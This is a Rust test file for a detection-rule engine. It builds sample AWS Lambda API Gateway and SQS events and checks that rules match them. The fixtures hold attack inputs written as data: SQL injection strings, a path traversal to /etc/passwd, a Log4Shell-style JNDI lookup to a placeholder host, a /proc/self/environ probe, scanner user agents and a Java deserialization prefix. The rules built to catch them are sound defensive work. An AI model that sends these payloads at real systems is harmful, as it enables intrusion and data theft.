//! `service: lambda` rules on `invocations` batches built from event payloads.

use super::*;

/// An API Gateway HTTP API (payload 2.0) event.
fn http(method: &str, path: &str, query: &str, body: Option<&str>, ua: &str) -> Value {
    let qs: serde_json::Map<String, Value> = query
        .split('&')
        .filter(|p| !p.is_empty())
        .filter_map(|p| p.split_once('='))
        .map(|(k, v)| (k.to_owned(), Value::String(v.to_owned())))
        .collect();
    let mut e = json!({
        "version": "2.0",
        "routeKey": format!("{method} {path}"),
        "rawPath": path,
        "rawQueryString": query,
        "headers": {
            "accept": "application/json",
            "host": "k9x8y7z6w5.execute-api.us-east-2.amazonaws.com",
            "user-agent": ua,
            "X-Forwarded-For": "203.0.113.77",
            "content-type": "application/json"
        },
        "queryStringParameters": qs,
        "requestContext": {
            "accountId": "111122223333",
            "apiId": "k9x8y7z6w5",
            "domainName": "k9x8y7z6w5.execute-api.us-east-2.amazonaws.com",
            "domainPrefix": "k9x8y7z6w5",
            "http": {"method": method, "path": path, "protocol": "HTTP/1.1",
                     "sourceIp": "203.0.113.77", "userAgent": ua},
            "requestId": format!("req-{method}-{path}-{query}"),
            "routeKey": format!("{method} {path}"),
            "stage": "$default",
            "time": "01/Jun/2024:12:00:05 +0000",
            "timeEpoch": 1717243205000u64
        },
        "isBase64Encoded": false
    });
    if let Some(b) = body {
        e["body"] = Value::String(b.to_owned());
    }
    e
}

fn lambda_matches(detection: &str, events: &[Value]) -> Vec<bool> {
    let rule = compiled(&rule_text("lambda", detection));
    assert_eq!(rule.table(), Table::Invocations);
    eval(
        &rule,
        Table::Invocations,
        &batch(Table::Invocations, events),
    )
}

#[test]
fn invocation_columns_and_payload_paths() {
    let events = [
        http("GET", "/search", "q=shoes&limit=20", None, "Mozilla/5.0"),
        http(
            "GET",
            "/search",
            "q=%27%20OR%201%3D1--",
            None,
            "sqlmap/1.7.2#stable",
        ),
        http(
            "POST",
            "/orders",
            "",
            Some(r#"{"item":{"id":"' UNION SELECT password FROM users--"}}"#),
            "python-requests/2.31",
        ),
        http(
            "GET",
            "/files",
            "name=..%2f..%2fetc%2fpasswd",
            None,
            "curl/8.0",
        ),
    ];
    assert_eq!(
        lambda_matches("s:\n  http_method: post\ncondition: s", &events),
        [false, false, true, false]
    );
    assert_eq!(
        lambda_matches("s:\n  user_agent|contains: sqlmap\ncondition: s", &events),
        [false, true, false, false]
    );
    assert_eq!(
        lambda_matches("s:\n  query|contains: '%2f..'\ncondition: s", &events),
        [false, false, false, true]
    );
    assert_eq!(
        lambda_matches(
            "s:\n  payload.queryStringParameters.q: shoes\ncondition: s",
            &events
        ),
        [true, false, false, false]
    );
    // The body is JSON held in a string: paths go on into it.
    assert_eq!(
        lambda_matches(
            "s:\n  payload.body.item.id|contains: 'union select'\ncondition: s",
            &events
        ),
        [false, false, true, false]
    );
    // Header names, in the `headers` column and in the payload, in any case.
    assert_eq!(
        lambda_matches(
            "s:\n  headers.User-Agent|startswith: curl/\ncondition: s",
            &events
        ),
        [false, false, false, true]
    );
    assert_eq!(
        lambda_matches(
            "s:\n  payload.headers.x-forwarded-for|cidr: 203.0.113.0/24\ncondition: s",
            &events
        ),
        [true, true, true, true]
    );
    assert_eq!(
        lambda_matches("s:\n  body_size|gt: 10\ncondition: s", &events),
        [false, false, true, false]
    );
    assert_eq!(
        lambda_matches("s:\n  status_code: null\ncondition: s", &events),
        [true, true, true, true]
    );
}

#[test]
fn keyword_lists_search_the_whole_request() {
    let events = [
        http("GET", "/a", "x=1", None, "Mozilla/5.0"),
        http(
            "POST",
            "/b",
            "",
            Some(r#"{"name":"${jndi:ldap://x.example/a}"}"#),
            "Mozilla/5.0",
        ),
        http("GET", "/proc/self/environ", "", None, "Mozilla/5.0"),
        http("GET", "/c", "", None, "Nuclei - Open-source project"),
        http(
            "GET",
            "/d",
            "",
            Some("O'Brien ordered ${price}"),
            "Mozilla/5.0",
        ),
    ];
    let thirty: Vec<String> = (0..30).map(|i| format!("  - 'needle{i}'\n")).collect();
    let det = format!(
        "keywords:\n  - '${{jndi:'\n  - /proc/self/environ\n  - nuclei\n{}condition: keywords",
        thirty.concat()
    );
    assert_eq!(
        lambda_matches(&det, &events),
        [false, true, true, true, false]
    );
    // Keywords with wildcards keep them.
    assert_eq!(
        lambda_matches(
            "keywords:\n  - 'o''brien*price'\ncondition: keywords",
            &events
        ),
        [false, false, false, false, true]
    );
}

#[test]
fn sqs_records_have_their_body() {
    let sqs = |body: &str| {
        json!({"Records": [{
            "messageId": "059f36b4-87a3-44ab-83d2-661975830a7d",
            "receiptHandle": "AQEBwJnKyrHigUMZj6rYigCgxlaS3SLy0a",
            "body": body,
            "attributes": {"ApproximateReceiveCount": "1", "SentTimestamp": "1545082649183",
                "SenderId": "AIDAIENQZJOLO23YVJ4VO", "ApproximateFirstReceiveTimestamp": "1545082649185"},
            "messageAttributes": {},
            "md5OfBody": "e4e68fb7bd0e697a0ae8f1bb342846b3",
            "eventSource": "aws:sqs",
            "eventSourceARN": "arn:aws:sqs:us-east-2:123456789012:orders",
            "awsRegion": "us-east-2"
        }]})
    };
    let events = [
        sqs(r#"{"cmd":"rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ"}"#),
        sqs(r#"{"cmd":"ok"}"#),
    ];
    assert_eq!(
        lambda_matches(
            "s:\n  trigger: sqs\n  payload.body.cmd|startswith: rO0AB\ncondition: s",
            &events
        ),
        [true, false]
    );
}
